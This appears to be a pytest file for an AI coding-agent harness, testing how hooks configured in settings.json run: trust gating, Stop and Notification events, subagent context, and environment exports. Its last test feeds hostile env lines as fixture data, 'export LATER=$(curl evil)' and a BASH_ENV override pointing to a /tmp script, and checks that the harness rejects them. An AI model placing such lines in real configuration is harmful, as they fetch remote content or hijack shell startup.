"""Hooks configured where Claude Code users keep them (~/.claude/settings.json, a trusted
project's .claude/settings.json), run by a real session unchanged."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from tests.hooks.conftest import script

RECORD = """#!/usr/bin/env python3
import json, os, sys
data = json.load(sys.stdin)
with open(os.path.expanduser("~/hook-record.jsonl"), "a") as out:
    out.write(json.dumps({"event": data["hook_event_name"], "mode": data.get("permission_mode"),
                          "greeting": os.environ.get("HOOK_GREETING"),
                          "error": data.get("error"), "tool": data.get("tool_name")}) + "\\n")
"""


def claude_settings(path: Path, data: dict[str, Any]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data, indent=2))


def records(home: Path) -> list[dict[str, Any]]:
    path = home / "hook-record.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


async def test_user_settings_hooks_run_with_their_env_and_claudes_mode_names(
        git_repo: Path, isolated_home: Path, live: Any) -> None:
    hook = script(isolated_home, "record.py", RECORD)
    claude_settings(isolated_home / ".claude" / "settings.json", {
        "env": {"HOOK_GREETING": "hello from settings.json"},
        "hooks": {
            "SessionStart": [{"matcher": "startup", "hooks": [
                {"type": "command", "command": str(hook)}]}],
            "PostToolUseFailure": [{"matcher": "Bash", "hooks": [
                {"type": "command", "command": str(hook)}]}],
            "NoSuchEvent": [{"hooks": [{"type": "command", "command": "touch nope"}]}],
        }})
    run = await live(git_repo, extra_config='permission_mode = "accept-edits"')
    started = records(isolated_home)
    assert started == [{"event": "SessionStart", "mode": "acceptEdits",
                        "greeting": "hello from settings.json", "error": None, "tool": None}]
    await run.session.run_shell("ls no-such-file")
    failed = records(isolated_home)[1:]
    assert len(failed) == 1 and failed[0]["event"] == "PostToolUseFailure"
    assert failed[0]["tool"] == "Bash" and "no-such-file" in failed[0]["error"]
    await run.session.run_shell("true")
    assert len(records(isolated_home)) == 2  # a success is no failure
    assert not (git_repo / "nope").exists()


async def test_a_trusted_projects_settings_hook_runs_and_an_untrusted_ones_does_not(
        git_repo: Path, isolated_home: Path, live: Any) -> None:
    claude_settings(git_repo / ".claude" / "settings.json", {"hooks": {"SessionStart": [
        {"hooks": [{"type": "command", "command": "echo ran >> started.txt"}]}]}})
    await live(git_repo)
    assert not (git_repo / "started.txt").exists()
    await live(git_repo, trusted=True)
    assert (git_repo / "started.txt").read_text() == "ran\n"


READ_LAST_ANSWER = """#!/usr/bin/env python3
# A Stop hook as Claude Code users write them: the turn's last answer from transcript_path.
import json, os, sys
data = json.load(sys.stdin)
answer = ""
for line in open(data["transcript_path"]):
    entry = json.loads(line)
    if entry["type"] == "assistant":
        texts = [b["text"] for b in entry["message"]["content"] if b["type"] == "text"]
        answer = texts[-1] if texts else answer
open(os.path.expanduser("~/last-answer.txt"), "w").write(answer)
"""


async def test_a_stop_hook_finds_the_turn_in_the_transcript(
        git_repo: Path, isolated_home: Path, live: Any, fake_model: Any) -> None:
    from tests.fakes.model_server import ScriptedTurn

    hook = script(isolated_home, "last-answer.py", READ_LAST_ANSWER)
    claude_settings(isolated_home / ".claude" / "settings.json", {"hooks": {"Stop": [
        {"hooks": [{"type": "command", "command": str(hook)}]}]}})
    fake_model.script(
        ScriptedTurn(tool_calls=[{"name": "bash", "arguments": {"command": "echo checked"}}]),
        ScriptedTurn(text="All tests pass."))
    run = await live(git_repo)
    result = await run.session.submit("run the tests")
    assert result.status == "done", result.text
    assert (isolated_home / "last-answer.txt").read_text() == "All tests pass."


async def test_notification_matcher_is_the_notification_type(
        git_repo: Path, isolated_home: Path, live: Any) -> None:
    asked, idle = isolated_home / "asked.json", isolated_home / "idle.json"
    claude_settings(isolated_home / ".claude" / "settings.json", {"hooks": {"Notification": [
        {"matcher": "permission_prompt", "hooks": [
            {"type": "command", "command": f"cat > {asked}"}]},
        {"matcher": "idle_prompt", "hooks": [{"type": "command", "command": f"cat > {idle}"}]},
    ]}})
    run = await live(git_repo, allow_execute=False)
    result = await run.session.run_shell("echo hi")
    assert result.is_error  # the headless policy said no, after the question was heard
    await run.session.close()
    assert json.loads(asked.read_text())["notification_type"] == "permission_prompt"
    assert not idle.exists()


async def test_subagent_start_gives_the_specialist_context(
        git_repo: Path, isolated_home: Path, live: Any, fake_model: Any) -> None:
    from tests.fakes.model_server import ScriptedTurn

    seen = isolated_home / "subagent-start.json"
    claude_settings(isolated_home / ".claude" / "settings.json", {"hooks": {"SubagentStart": [
        {"matcher": "qa", "hooks": [{"type": "command",
                                     "command": f"cat > {seen}; echo 'Run pytest with -x.'"}]},
        {"matcher": "review", "hooks": [{"type": "command", "command": "echo never"}]},
    ]}})
    fake_model.script(
        ScriptedTurn(tool_calls=[{"name": "delegate", "arguments": {
            "agent": "qa", "task": "run the tests"}}]),
        ScriptedTurn(text=json.dumps({"summary": "all green", "passed": True, "checks": []})),
        ScriptedTurn(text="The tests pass."))
    run = await live(git_repo)
    result = await run.session.submit("check the tests")
    assert result.status == "done", result.text
    data = json.loads(seen.read_text())
    assert data["hook_event_name"] == "SubagentStart" and data["agent_type"] == "qa"
    task = fake_model.requests[1]["messages"][-1]["content"]
    assert "run the tests" in task and "Run pytest with -x." in task
    assert "never" not in task


async def test_session_start_exports_reach_later_commands_through_claude_env_file(
        git_repo: Path, isolated_home: Path, live: Any) -> None:
    exports = ("echo 'export NODE_ENV=development' >> \"$CLAUDE_ENV_FILE\"; "
               "echo 'export PATH=\"$HOME/.tools/bin:$PATH\"' >> \"$CLAUDE_ENV_FILE\"; "
               "echo 'export BASH_ENV=/tmp/run-me-first' >> \"$CLAUDE_ENV_FILE\"; "
               "echo 'export LATER=$(curl evil)' >> \"$CLAUDE_ENV_FILE\"")
    claude_settings(isolated_home / ".claude" / "settings.json", {"hooks": {"SessionStart": [
        {"hooks": [{"type": "command", "command": exports}]}]}})
    run = await live(git_repo)
    shown = await run.session.run_shell('echo "$NODE_ENV|$BASH_ENV|$LATER|$PATH"')
    node_env, bash_env, later, path = shown.output.strip().split("|")
    assert (node_env, bash_env, later) == ("development", "", "")
    assert path.split(":")[0] == f"{isolated_home}/.tools/bin"
    warned = " ".join(run.warnings())
    assert "line 3: BASH_ENV changes how every command starts" in warned
    assert "line 4: not `export NAME=value`" in warned
